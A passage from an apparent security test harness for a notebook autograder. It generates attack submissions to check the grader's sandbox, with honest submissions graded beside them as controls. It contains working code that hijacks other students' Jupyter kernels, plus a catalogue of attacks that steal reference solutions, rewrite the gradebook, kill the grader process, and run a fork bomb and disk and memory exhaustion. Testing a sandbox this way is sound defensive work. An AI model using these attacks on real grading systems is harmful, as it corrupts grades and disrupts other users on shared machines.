            break
        _said += _chunk
_held, _, _children = _said.decode().strip().partition(" ")
if not _held:
    _note("memory", "the holding process said nothing")
else:
    _total = int(_held) * _each
    _note("memory", f"{{'OVER-LIMIT ' if _total > _limit else ''}}{{_total >> 20}}MiB held at once \
by {{_held}} of {{_children}} children (limit {{_limit >> 20}}MiB)")
''')}


# -- another student's kernel ---------------------------------------------------------------------
HIJACK_CODE = "".join(f"globals()[{name!r}] = lambda *args, **kwargs: None\n"
                      for name in STUDENT_FUNCTIONS)


def hijack(t: Targets) -> dict[str, str]:
    """A thread that, for the whole life of this kernel, looks for other kernels (their connection
    files, named on their command lines in /proc, or in runtime folders), connects with
    jupyter_client and replaces their functions by ones that return nothing. The other answer
    cells only wait, so that this kernel lives while the next file is graded."""
    first = cell(f'''
import glob
import threading

_state = {{"found": 0, "hijacked": 0, "errors": set()}}


def _parent_of(pid):
    for line in _libc_read(f"/proc/{{pid}}/status").decode().splitlines():
        if line.startswith("PPid:"):
            return int(line.split()[1])
    return 0


def _descends_from_grader(pid):
    """Only kernels of this batch: the machine is shared, other graders' kernels are not targets."""
    for _ in range(12):
        pid = _parent_of(pid)
        if pid == {t.grader_pid}:
            return True
        if pid <= 1:
            return False
    return False


def _connection_files():
    own = set()
    files = set()
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            argv = _libc_read(f"/proc/{{pid}}/cmdline").split(b"\\0")
        except OSError:
            continue
        for flag, value in zip(argv, argv[1:]):
            if flag == b"-f" and value.endswith(b".json"):
                try:
                    mine = int(pid) == os.getpid()
                    if mine or _descends_from_grader(int(pid)):
                        (own if mine else files).add(value.decode())
                except OSError:
                    pass
    return files - own


def _hijack(path):
    from jupyter_client import BlockingKernelClient

    info = json.loads(_libc_read(path))
    client = BlockingKernelClient()
    client.load_connection_info(info)
    client.start_channels()
    try:
        msg_id = client.execute({HIJACK_CODE!r}, silent=True, store_history=False)
        deadline = time.monotonic() + 5
        while time.monotonic() < deadline:
            reply = client.get_shell_msg(timeout=5)
            if reply["parent_header"].get("msg_id") == msg_id:
                return reply["content"]["status"] == "ok"
    finally:
        client.stop_channels()
    return False


def _hunt():
    done = set()
    end = time.monotonic() + 40
    while time.monotonic() < end:
        try:
            files = _connection_files()
        except Exception as error:
            _state["errors"].add(_why(error))
            files = set()
        for path in files - done:
            done.add(path)
            _state["found"] += 1
            try:
                if _hijack(path):
                    _state["hijacked"] += 1
            except Exception as error:
                _state["errors"].add(_why(error))
        time.sleep(0.2)


threading.Thread(target=_hunt, daemon=True).start()
''').replace("\n_finish()\n", "\n")
    wait = "import time\ntime.sleep(2)\nraise NotImplementedError()\n"
    last = ('import time\ntime.sleep(2)\n'
            'outcome = f"HIJACKED {_state[\'hijacked\']}" if _state["hijacked"] else "none"\n'
            'raise RuntimeError(f"ATTACK-REPORT kernels-found={_state[\'found\']}; '
            'hijack={outcome}; errors={sorted(_state[\'errors\'])[:4]}")\n')
    return {"initialize_solution": first, "merge_solution": wait, "learn_solution": wait,
            "tokenize_solution": last}


# -- the catalogue ---------------------------------------------------------------------------------
def attack_list(t: Targets) -> list[Attack]:
    del t  # the catalogue is the same for every target; the argument keeps call sites uniform
    return [
        Attack(
            "steal-libc", "steal",
            "libc open/read and the openat syscall of solutions/toy_bpe.ipynb and the reference",
            steal_libc,
        ),
        Attack(
            "steal-dir-fd", "steal",
            "os.open with dir_fd, an O_PATH root, and reopening an O_PATH fd via /proc/self/fd",
            steal_dir_fd,
        ),
        Attack(
            "steal-links", "steal",
            "hard link (os.link, libc link) and symlink of the solution into its own folder",
            steal_links,
        ),
        Attack(
            "steal-copy-plain", "steal",
            "plain open() of a copy of the course outside the checkout", steal_copy_plain,
        ),
        Attack(
            "steal-copy-libc", "steal", "libc open() of a copy of the course outside the checkout",
            steal_copy_libc,
        ),
        Attack(
            "steal-proc", "steal", "other processes' /proc/<pid>/cwd and /proc/<pid>/root links",
            steal_proc,
        ),
        Attack(
            "steal-fds", "steal", "file descriptors inherited from the grader", steal_inherited_fds
        ),
        Attack(
            "write-python", "write",
            "create, rename over, append, chmod, truncate, mkdir, rename outside its folder "
            "(Python)", write_python,
        ),
        Attack(
            "write-fds", "write",
            "writes into files outside its folder that it inherited open (its log)",
            write_inherited_fds,
        ),
        Attack(
            "write-libc", "write",
            "create, rename over, chmod, truncate, mkdir, rename, symlink outside its folder "
            "(libc)", write_libc,
        ),
        Attack(
            "x-gradebook", "write",
            "sqlite3 UPDATE of OUT/gradebook.db, libc O_RDWR open of it, saved results rewritten",
            write_gradebook,
        ),
        Attack(
            "net-python", "network", "TCP, UDP, pathname and abstract Unix sockets (Python)",
            network_python,
        ),
        Attack(
            "net-libc", "network",
            "TCP, UDP (socket by syscall number), pathname Unix socket (libc)", network_libc,
        ),
        Attack(
            "ns-clone",
            "process",
            "new namespaces of every kind by clone, clone3 and unshare (raw syscalls), and setns",
            namespaces,
        ),
        Attack(
            "proc-daemons",
            "process",
            "daemons by libc double fork + setsid, _posixsubprocess.fork_exec, os.forkpty, libc "
            "system",
            daemons,
        ),
        Attack(
            "sig-pidfd-kill",
            "signal",
            "pidfd_send_signal(pidfd_open(parent or grader), SIGKILL)",
            signal_attack(PIDFD_KILL),
            dangerous=True,
        ),
        Attack(
            "sig-libc-kill",
            "signal",
            "libc kill(parent or grader, SIGKILL)",
            signal_attack(LIBC_KILL),
            dangerous=True,
        ),
        Attack(
            "sig-stop",
            "signal",
            "SIGSTOP to the parent and the grader (libc kill, pidfd)",
            signal_attack(SIGSTOP),
            dangerous=True,
        ),
        Attack(
            "sig-kill-all",
            "signal",
            "kill(-1, SIGKILL) through libc and os.kill",
            signal_attack(KILL_ALL),
            dangerous=True,
        ),
        Attack(
            "limit-disk",
            "limit",
            "64 MiB files in its own folder until 2 GiB",
            disk_filler,
            dangerous=True,
        ),
        Attack(
            "limit-memory",
            "limit",
            "children of one kernel hold more memory together than the kernel's limit",
            memory_in_children,
            dangerous=True,
        ),
        Attack(
            "a1-hijack",
            "hijack",
            "finds other kernels' connection files and zeroes their functions over jupyter_client",
            hijack,
        ),
        Attack(
            "n1-fork-bomb",
            "limit",
            "a bounded fork bomb (2000 children sleeping 2 s)",
            fork_bomb,
            dangerous=True,
        ),
    ]


# Honest submissions, graded in the same batch. Files are graded in name order, two at a time: the
# hijacker and the classmate first (both start at once), the neighbour right after the fork bomb.
HONEST = "b-honest"
CLASSMATE = "a2-classmate"
NEIGHBOUR = "n2-neighbour"


@functools.lru_cache(maxsize=None)
def _case_notebook(case_id: str) -> nbformat.NotebookNode:
    return make_submission(next(case for case in load_cases() if case["id"] == case_id))


def blank_notebook() -> nbformat.NotebookNode:
    return copy.deepcopy(_case_notebook("toy-untouched"))


def correct_notebook() -> nbformat.NotebookNode:
    return copy.deepcopy(_case_notebook("toy-correct"))


# Makes the grader itself compute: learn fails (blank), so while tokenize is graded learn_bpe is a
# stand-in that the grader answers with its reference, on this student-chosen input (every pair
# twice: 40,000 merges over the whole corpus; the reference takes days).
STAND_IN_HOG = """\
_WORDS = [chr(0x4E00 + 2 * i) + chr(0x4E00 + 2 * i + 1) for i in range(20000)]
_DATASET = [" ".join(_WORDS + _WORDS)]


def tokenize(text, merges):
    learn_bpe(_DATASET, 10**9)
    return []
"""


def stand_in_hog_notebook() -> nbformat.NotebookNode:
    nb = blank_notebook()
    next(
        c for c in nb.cells if nbgrader_meta(c).get("grade_id") == "tokenize_solution"
    ).source = STAND_IN_HOG
    return nb


def attack_notebook(attack: Attack, targets: Targets) -> nbformat.NotebookNode:
    nb = blank_notebook()
    sources = attack.cells(targets)
    for cell_ in nb.cells:
        grade_id = nbgrader_meta(cell_).get("grade_id")
        if grade_id in sources:
            cell_.source = sources.pop(grade_id)
    assert not sources, f"no cells {sorted(sources)} in the blank notebook"
    return nb


def write_submissions(folder: Path, targets: Targets, attacks: list[Attack]) -> dict[str, Path]:
    """The attacks and the honest files into ``folder``; file stem -> path."""
    folder.mkdir(parents=True, exist_ok=True)
    written = {}
    for attack in attacks:
        written[attack.attack_id] = folder / attack.file
        nbformat.write(attack_notebook(attack, targets), written[attack.attack_id])
    for stem in (HONEST, CLASSMATE, NEIGHBOUR):
        written[stem] = folder / f"{stem}.ipynb"
        nbformat.write(correct_notebook(), written[stem])
    return written


def report_of(result) -> str:
    """The ATTACK-REPORT an attack raised, as the result (a
    GradeResult) carries it ('' if it never got there)."""
    for entry in result.cells:
        error = entry.error
        if REPORT_TAG in error:
            return error[error.index(REPORT_TAG) + len(REPORT_TAG):]
    return ""


def holes_in(report: str) -> list[str]:
    """The ``name=outcome`` entries of a report whose outcome says the way in worked."""
    entries = [entry.strip() for entry in report.split(";") if "=" in entry]
    return [entry for entry in entries if entry.split("=", 1)[1].strip().startswith(HOLE_WORDS)]


def example_targets() -> Targets:
    here = Path("/nonexistent")
    return Targets(here, here / "submissions", here / "out", here / "canary", here / "last-term",
                   here / "site-packages",
                   1, 2, here / "listener.sock", "listener", 1, 1, "rt0123456789", "")
